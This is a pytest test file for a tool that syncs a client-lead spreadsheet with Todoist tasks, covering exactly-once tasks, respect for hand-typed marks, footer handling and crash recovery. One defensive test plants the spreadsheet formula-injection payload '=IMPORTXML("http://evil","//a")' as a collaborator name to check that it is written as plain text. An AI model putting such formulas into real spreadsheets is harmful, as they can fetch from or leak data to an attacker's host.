"""Whole cycles against the in-memory gateways: each behaviour of the journey, and the
invariants (exactly once, nothing lost, people win, the footer is right)."""

from __future__ import annotations

from datetime import date, timedelta
from typing import Any

import pytest

from journey_sync.dates import date_to_serial
from journey_sync.errors import ServiceError, UserError
from journey_sync.sheet import read_sheet
from support.checks import assert_exactly_once, assert_footer_right, tasks_per_step
from support.world import lead_row

TODAY = date(2026, 3, 2)  # a Monday


def test_a_new_lead_gets_exactly_its_tasks(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    report = world.cycle()
    lead_id = world.lead_id("Ann Lee")
    assert report.new_leads == 1 and report.tasks_created == len(world.workflow.steps)
    tasks = {t.description.rsplit("step ", 1)[1]: t for t in world.todoist.active()}
    assert set(tasks) == {s.key for s in world.workflow.steps}
    assert tasks["contact"].content == "Contact Ann Lee (lead from Instagram)"
    assert tasks["contact"].due is not None and tasks["contact"].due.day == TODAY
    assert tasks["book_meeting"].due.day == TODAY + timedelta(days=2)  # type: ignore[union-attr]
    hold = tasks["hold_meeting"].due
    assert hold is not None and hold.at is not None and hold.at.hour == 10
    assert tasks["check_in_12m"].due.day == date(2027, 3, 2)  # type: ignore[union-attr]
    assert f"journey-sync: lead {lead_id} · step contact" in tasks["contact"].description
    assert (
        world.todoist.projects
        and next(iter(world.todoist.projects.values()))[0].name == "Client journeys"
    )


def test_second_cycle_with_no_changes_plans_nothing_and_writes_nothing(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY), lead_row("Bo Chan", TODAY)], TODAY)
    world.cycle()
    writes, commands = world.sheet.write_requests, world.todoist.command_requests
    plan, _ = world.engine.plan_only()
    assert plan.is_empty()
    world.cycle()
    assert world.sheet.write_requests == writes
    assert world.todoist.command_requests == commands


def test_lead_seen_late_skips_past_reminders_and_marked_stages(make_world) -> None:  # type: ignore[no-untyped-def]
    lead_day = TODAY - timedelta(days=50)
    row = lead_row("Late Lead", lead_day)
    row += [1]  # "Client contacted" already marked by hand
    world = make_world([row], TODAY)
    world.cycle()
    steps = {t.description.rsplit("step ", 1)[1]: t for t in world.todoist.active()}
    assert "contact" not in steps  # stage already reached
    assert "touch_base_6w" not in steps  # a reminder already past
    assert steps["book_meeting"].due.day == TODAY  # type: ignore[union-attr]  # overdue stage step: today
    assert steps["check_in_2m"].due.day > TODAY  # type: ignore[union-attr]


def test_completing_a_task_writes_the_mark_and_uncompleting_clears_it(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    task = world.todoist.task_for(world.lead_id("Ann Lee"), "contact")
    world.todoist.complete(task.id)
    report = world.cycle()
    assert report.marks_written == 1
    assert world.mark("Ann Lee", "Client contacted") == 1
    world.todoist.uncomplete(task.id)
    world.cycle()
    assert world.mark("Ann Lee", "Client contacted") is None
    assert_footer_right(world)


def test_uncompleting_never_clears_a_mark_a_person_typed(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    world.sheet.set(world.sheet.row_of("Ann Lee"), "Client meeting booked", 1)
    world.cycle()  # the hand-typed mark closes the task
    task = world.todoist.task_for(world.lead_id("Ann Lee"), "book_meeting")
    assert task.checked
    world.todoist.uncomplete(task.id)
    world.cycle()
    assert world.mark("Ann Lee", "Client meeting booked") == 1


def test_a_hand_typed_mark_closes_the_open_task(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    world.sheet.set(world.sheet.row_of("Ann Lee"), "Client contacted", 1)
    report = world.cycle()
    assert report.tasks_closed == 1
    assert world.todoist.task_for(world.lead_id("Ann Lee"), "contact").checked
    assert world.cycle().tasks_closed == 0  # and only once


def test_never_writes_over_a_cell_a_person_filled(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    world.sheet.set(world.sheet.row_of("Ann Lee"), "Client contacted", "phoned, no answer")
    world.todoist.complete(world.todoist.task_for(world.lead_id("Ann Lee"), "contact").id)
    world.cycle()
    assert world.mark("Ann Lee", "Client contacted") == "phoned, no answer"


def test_a_person_removing_our_mark_is_respected(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    world.todoist.complete(world.todoist.task_for(world.lead_id("Ann Lee"), "contact").id)
    world.cycle()
    world.sheet.set(world.sheet.row_of("Ann Lee"), "Client contacted", None)
    world.cycle()
    world.cycle()
    assert world.mark("Ann Lee", "Client contacted") is None


def test_leaving_fills_left_on_colours_red_and_removes_open_tasks(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY), lead_row("Bo Chan", TODAY)], TODAY)
    world.cycle()
    ann = world.lead_id("Ann Lee")
    world.todoist.complete(world.todoist.task_for(ann, "contact").id)
    world.cycle()
    world.sheet.set(world.sheet.row_of("Ann Lee"), "Reason for discontinue", "Moved away")
    report = world.cycle()
    assert report.tasks_removed == len(world.workflow.steps) - 1
    assert world.mark("Ann Lee", "When left journey") == date_to_serial(TODAY)
    assert (
        world.sheet.row_of("Ann Lee"),
        world.sheet.header_column("When left journey"),
    ) in world.sheet.date_cells
    assert world.todoist.task_for(ann, "contact").checked  # done work stays done
    open_for_ann = [t for t in world.todoist.active() if f"lead {ann} " in t.description]
    assert open_for_ann == []
    assert world.sheet.row_colour(world.sheet.row_of("Ann Lee")) == "departed"
    assert world.sheet.row_colour(world.sheet.row_of("Bo Chan")) is None
    assert_footer_right(world)


def test_left_on_a_person_typed_is_kept(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    row = world.sheet.row_of("Ann Lee")
    world.sheet.set(row, "Reason for discontinue", "Price")
    world.sheet.set(row, "When left journey", "last week")
    world.cycle()
    assert world.mark("Ann Lee", "When left journey") == "last week"


def test_paid_rows_turn_green_and_red_wins(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY), lead_row("Bo Chan", TODAY)], TODAY)
    world.cycle()
    for name in ("Ann Lee", "Bo Chan"):
        world.todoist.complete(world.todoist.task_for(world.lead_id(name), "first_paid_session").id)
    world.cycle()
    assert world.sheet.row_colour(world.sheet.row_of("Ann Lee")) == "paid"
    world.sheet.set(world.sheet.row_of("Bo Chan"), "Reason for discontinue", "Injury")
    world.cycle()
    assert world.sheet.row_colour(world.sheet.row_of("Bo Chan")) == "departed"
    assert len(world.sheet.rules) == 2  # installed once, never duplicated
    footer_row = min(f.row for f in read_sheet(world.workflow, world.sheet.read()).footer)
    assert world.sheet.row_colour(footer_row) is None  # the footer is never coloured


def test_sorted_rows_and_renamed_lead_keep_their_tasks(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world(
        [lead_row("Cy Dunn", TODAY), lead_row("Ann Lee", TODAY), lead_row("Bo Chan", TODAY)], TODAY
    )
    world.cycle()
    ids = {name: world.lead_id(name) for name in ("Ann Lee", "Bo Chan", "Cy Dunn")}
    world.sheet.sort_leads("Client name", first=2, last=4)
    world.sheet.set(world.sheet.row_of("Bo Chan"), "Client name", "Bo Chan-Smith")
    world.todoist.complete(world.todoist.task_for(ids["Cy Dunn"], "contact").id)
    report = world.cycle()
    assert report.new_leads == 0 and report.tasks_created == 0
    assert world.lead_id("Bo Chan-Smith") == ids["Bo Chan"]
    assert world.mark("Cy Dunn", "Client contacted") == 1
    assert world.mark("Ann Lee", "Client contacted") is None
    assert_exactly_once(world)


def test_rows_inserted_above_keep_identity_and_footer(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY), lead_row("Bo Chan", TODAY)], TODAY)
    world.cycle()
    ann = world.lead_id("Ann Lee")
    world.sheet.insert_rows(2, 2)
    for header, value in zip(
        ["Client name", "Date of lead", "Source of lead"],
        ["New Nia", date_to_serial(TODAY), "Web"],
        strict=True,
    ):
        world.sheet.set(3, header, value)
    world.todoist.complete(world.todoist.task_for(ann, "contact").id)
    report = world.cycle()
    assert report.new_leads == 1 and report.footer_written is False  # formulas followed the insert
    assert world.lead_id("Ann Lee") == ann and world.mark("Ann Lee", "Client contacted") == 1
    assert_footer_right(world)
    assert_exactly_once(world)


def test_a_copied_row_with_a_duplicated_id_becomes_a_new_lead(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    ann = world.lead_id("Ann Lee")
    # A person copies Ann's row above hers and changes the name: the copy carries Ann's id.
    world.sheet.insert_rows(2, 1)
    for header in ("Client name", "Date of lead", "Source of lead", "Lead ID"):
        world.sheet.set(2, header, world.sheet.get(3, header))
    world.sheet.set(2, "Client name", "Dee Copy")
    report = world.cycle()
    assert report.new_leads == 1
    assert world.lead_id("Ann Lee") == ann
    assert world.lead_id("Dee Copy") not in (ann, None)
    assert report.tasks_created == len(world.workflow.steps)
    assert_exactly_once(world)


def test_a_lead_typed_into_the_footer_moves_the_footer_down(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    footer_start = min(f.row for f in read_sheet(world.workflow, world.sheet.read()).footer)
    # Typed over the "Total reached" row: name and date replace the label.
    world.sheet.set(footer_start, "Client name", "Eve Over")
    world.sheet.set(footer_start, "Date of lead", date_to_serial(TODAY))
    # ...and another typed right below the footer.
    world.sheet.set(footer_start + 7, "Client name", "Fay Below")
    world.sheet.set(footer_start + 7, "Date of lead", date_to_serial(TODAY))
    report = world.cycle()
    assert report.new_leads == 2 and report.footer_written
    assert world.mark("Eve Over", "Client contacted") is None  # the old total is not a mark
    assert world.lead_id("Eve Over").startswith("L-")
    assert_footer_right(world)
    assert_exactly_once(world)
    plan, _ = world.engine.plan_only()
    assert plan.is_empty()


def test_footer_makes_room_instead_of_overwriting_peoples_notes(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.sheet.set(4, "How did you hear about us?", "NOTE: call Ann's sister")
    world.cycle()
    assert (
        world.sheet.get(world.sheet.last_row(), "How did you hear about us?")
        == "NOTE: call Ann's sister"
    )
    assert_footer_right(world)


def test_unreadable_date_flags_that_row_and_syncs_the_others(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([["Ann Lee", "next tuesday"], lead_row("Bo Chan", TODAY)], TODAY)
    report = world.cycle()
    assert report.rows_flagged == 1 and report.tasks_created == len(world.workflow.steps)
    note = world.sheet.notes[(2, world.sheet.header_column("Date of lead"))]
    assert "next tuesday" in note
    assert world.cycle().rows_flagged == 0  # flagged once, not every cycle
    world.sheet.set(2, "Date of lead", "2026-03-02")
    report = world.cycle()
    assert report.tasks_created == len(world.workflow.steps)
    assert (2, world.sheet.header_column("Date of lead")) not in world.sheet.notes


def test_coach_name_comes_from_the_assignee(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.todoist.collaborators["u7"] = "Coach Kim"
    world.cycle()
    world.todoist.assign(
        world.todoist.task_for(world.lead_id("Ann Lee"), "refer_to_coach").id, "u7"
    )
    world.cycle()
    assert world.mark("Ann Lee", "Name of coach") == "Coach Kim"


def test_text_from_todoist_written_raw_never_as_formula(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.todoist.collaborators["u7"] = '=IMPORTXML("http://evil","//a")'
    world.cycle()
    world.todoist.assign(
        world.todoist.task_for(world.lead_id("Ann Lee"), "refer_to_coach").id, "u7"
    )
    world.cycle()
    written = [
        v
        for w in world.sheet.applied
        for v in w.values
        if isinstance(v.value, str) and v.value.startswith("=")
    ]
    assert written and all(
        not any(f.formula == v.value for w in world.sheet.applied for f in w.formulas)
        for v in written
    )


def test_crash_after_todoist_ran_a_batch_does_not_duplicate(make_world) -> None:  # type: ignore[no-untyped-def]
    rows = [lead_row(f"Lead {i:03d}", TODAY) for i in range(20)]  # 260 tasks: 3 batches
    world = make_world(rows, TODAY)
    world.todoist.lose_answer_after = 1  # the 2nd batch runs, its answer is lost
    with pytest.raises(ConnectionError):
        world.cycle()
    world.restart()
    world.cycle()
    assert_exactly_once(world)
    assert sum(tasks_per_step(world).values()) == 20 * len(world.workflow.steps)


def test_state_database_lost_rebuilds_without_duplicates_or_lost_marks(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world(
        [lead_row("Ann Lee", TODAY - timedelta(days=3)), lead_row("Bo Chan", TODAY)], TODAY
    )
    world.cycle()
    ann = world.lead_id("Ann Lee")
    world.todoist.complete(world.todoist.task_for(ann, "contact").id)
    world.cycle()
    # Completed while the state is gone, and a reminder completed early.
    world.todoist.complete(world.todoist.task_for(ann, "book_meeting").id)
    world.todoist.complete(world.todoist.task_for(ann, "touch_base_6w").id)
    world.restart(lose_state=True)
    world.cycle()
    assert_exactly_once(world)
    assert world.mark("Ann Lee", "Client contacted") == 1
    assert world.mark("Ann Lee", "Client meeting booked") == 1
    assert world.lead_id("Ann Lee") == ann


def test_a_deleted_task_is_never_recreated(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    world.todoist.delete(world.todoist.task_for(world.lead_id("Ann Lee"), "touch_base_6w").id)
    assert world.cycle().tasks_created == 0


def test_deleted_project_is_a_clear_error(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.cycle()
    world.todoist.delete_project(next(iter(world.todoist.projects)))
    with pytest.raises(UserError, match=r"Client journeys.*was deleted: restore it"):
        world.cycle()


def test_failed_sheet_write_sends_nothing_to_todoist(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    world.sheet.fail_next_apply = ConnectionError("sheet down")
    with pytest.raises(ConnectionError):
        world.cycle()
    assert world.todoist.all_tasks() == []
    world.cycle()
    assert_exactly_once(world)
    assert len(world.todoist.active()) == len(world.workflow.steps)


def test_dry_run_changes_nothing(make_world) -> None:  # type: ignore[no-untyped-def]
    world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
    report = world.engine.run_cycle(dry_run=True)
    assert report.dry_run and report.tasks_created == len(world.workflow.steps)
    assert world.todoist.all_tasks() == [] and world.sheet.applied == []
    assert world.state.get(world.workflow.name, "sync_token") is None


def test_an_answer_cut_off_while_it_is_folded_changes_nothing_and_is_read_again(make_world) -> None:  # type: ignore[no-untyped-def]
    # Todoist's tasks are folded as the answer arrives (issue 13); an answer cut off after
    # some were taken must leave the state as it was (no token, no record), so the next
    # cycle reads the same changes again and writes each mark once.
    world = make_world([lead_row("Ann Lee", TODAY), lead_row("Bo Chan", TODAY)], TODAY)
    world.cycle()
    name = world.workflow.name
    for lead in ("Ann Lee", "Bo Chan"):
        world.todoist.complete(world.todoist.task_for(world.lead_id(lead), "contact").id)
    token = world.state.get(name, "sync_token")
    records = dict(world.state.memory(name).tasks)
    gateway = world.engine.tasks

    class CutOff:
        def changes(self, sync_token: str | None, take: Any = None) -> Any:
            def one_then_cut(task: Any) -> None:
                take(task)
                raise ServiceError("Todoist's answer was cut off; the next cycle will read it")

            return gateway.changes(sync_token, one_then_cut)

        def __getattr__(self, attribute: str) -> Any:
            return getattr(gateway, attribute)

    world.engine.tasks = CutOff()
    with pytest.raises(ServiceError, match="cut off"):
        world.cycle()
    assert world.state.get(name, "sync_token") == token
    assert world.state.memory(name).tasks == records
    assert world.mark("Ann Lee", "Client contacted") is None
    world.engine.tasks = gateway
    assert world.cycle().marks_written == 2
    assert world.mark("Ann Lee", "Client contacted") == 1
    assert world.mark("Bo Chan", "Client contacted") == 1
    assert_exactly_once(world)
    assert_footer_right(world)
